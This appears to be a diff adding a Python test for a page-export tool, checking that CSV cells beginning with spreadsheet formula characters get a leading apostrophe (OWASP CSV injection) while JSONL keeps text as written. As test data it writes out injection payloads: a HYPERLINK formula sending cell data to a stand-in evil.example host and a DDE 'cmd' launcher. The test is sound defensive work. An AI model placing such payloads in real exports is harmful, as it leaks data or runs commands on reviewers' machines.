@@ -249,3 +249,22 @@ def test_store_written_before_analysis_keys_opens_and_reuses_nothing(tmp_path):
         assert store.analysed_page("a" * 16, "k1") is None
         store.add([_page()], analysis="k1")
         assert store.analysed_page("a" * 16, "k1") == _page()
+
+
+def test_csv_cells_from_a_page_never_start_a_spreadsheet_formula(tmp_path):
+    # a comment or name written as a formula (=HYPERLINK(...), @SUM, +1+cmd) runs when a reviewer opens the CSV in a
+    # spreadsheet: such cells get a leading apostrophe (OWASP CSV injection); JSONL keeps the text as written
+    page = _page(comments=3)
+    page.title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
+    page.comments[0].text, page.comments[0].author = "+1+cmd|' /C calc'!A0", "@SUM(1+1)"
+    page.comments[1].text = "-2+3"
+    page.comments[2].text = "a plain comment - with a dash"
+    export([page], tmp_path / "p.csv", "csv", table="pages")
+    export([page], tmp_path / "c.csv", "csv", table="comments")
+    (row,) = csv.DictReader((tmp_path / "p.csv").open())
+    assert row["title"] == "'" + page.title and row["n_comments"] == "3"
+    rows = list(csv.DictReader((tmp_path / "c.csv").open()))
+    assert [r["text"] for r in rows] == ["'+1+cmd|' /C calc'!A0", "'-2+3", "a plain comment - with a dash"]
+    assert rows[0]["author"] == "'@SUM(1+1)" and rows[0]["position"] == "0"
+    export([page], tmp_path / "c.jsonl", "jsonl", table="comments")
+    assert json.loads((tmp_path / "c.jsonl").read_text().splitlines()[1])["text"] == "-2+3"
